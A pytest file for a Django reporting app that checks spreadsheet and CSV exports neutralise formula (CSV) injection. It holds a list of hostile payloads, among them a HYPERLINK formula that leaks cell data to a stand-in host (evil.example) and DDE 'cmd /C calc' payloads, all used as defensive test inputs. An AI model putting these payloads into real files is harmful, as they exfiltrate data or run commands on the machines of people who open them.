"""Exports are safe: a text beginning with =, +, -, @, a tab or a carriage return is written as
text in every spreadsheet and CSV the product makes, never as a formula (OWASP CSV injection)."""

import io

import openpyxl
import pytest
from django.core.management import call_command
from django.utils import timezone

from reports import plan_outcome
from reports.exports import as_csv, indicators_xlsx
from reports.models import PlanTask

YEAR = timezone.localdate().year
HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_the_plan_outcome_files_write_a_hostile_result_as_text(demo, api_as, text):
    call_command("load_plan", verbosity=0)
    task = PlanTask.objects.get(section__number=9, number=1)
    plan_outcome.task_result_record(actor=demo["police"], task_id=task.pk, year=YEAR, text=text)
    client = api_as("manager")
    xlsx = client.get("/api/v1/reports/plan-outcome/", {"year": YEAR, "format": "xlsx"})
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx.content)).worksheets[0]
    # (A carriage return comes back from the file as a newline or escaped: compare the rest.)
    cells = [
        c
        for row in sheet.iter_rows()
        for c in row
        if isinstance(c.value, str) and c.value.strip().endswith(text.strip())
    ]
    assert cells and all(c.data_type == "s" for c in cells)  # text, not a formula
    body = client.get("/api/v1/reports/plan-outcome/", {"year": YEAR, "format": "csv"})
    assert ("'" + text) in body.content.decode("utf-8-sig").replace('""', '"')


def test_every_text_cell_of_the_indicator_files_is_text(db):
    report = {
        "unit": {"name": "=cmd|' /C calc'!A0", "code": "37"},
        "year": YEAR,
        "suppressed": True,
        "confidential": False,
        "tables": [
            {
                "code": "",
                "title": "@title",
                "total": None,
                "total_display": "",
                "rows": [{"label": "-label", "value": None, "display": "<5"}],
            }
        ],
        "timeliness": [],
    }
    sheet = openpyxl.load_workbook(io.BytesIO(indicators_xlsx(report))).worksheets[0]
    texts = [c for row in sheet.iter_rows() for c in row if isinstance(c.value, str)]
    assert all(c.data_type == "s" for c in texts)
    assert as_csv([["=1+1", 5, "ok"]]).decode("utf-8-sig").strip() == "'=1+1,5,ok"
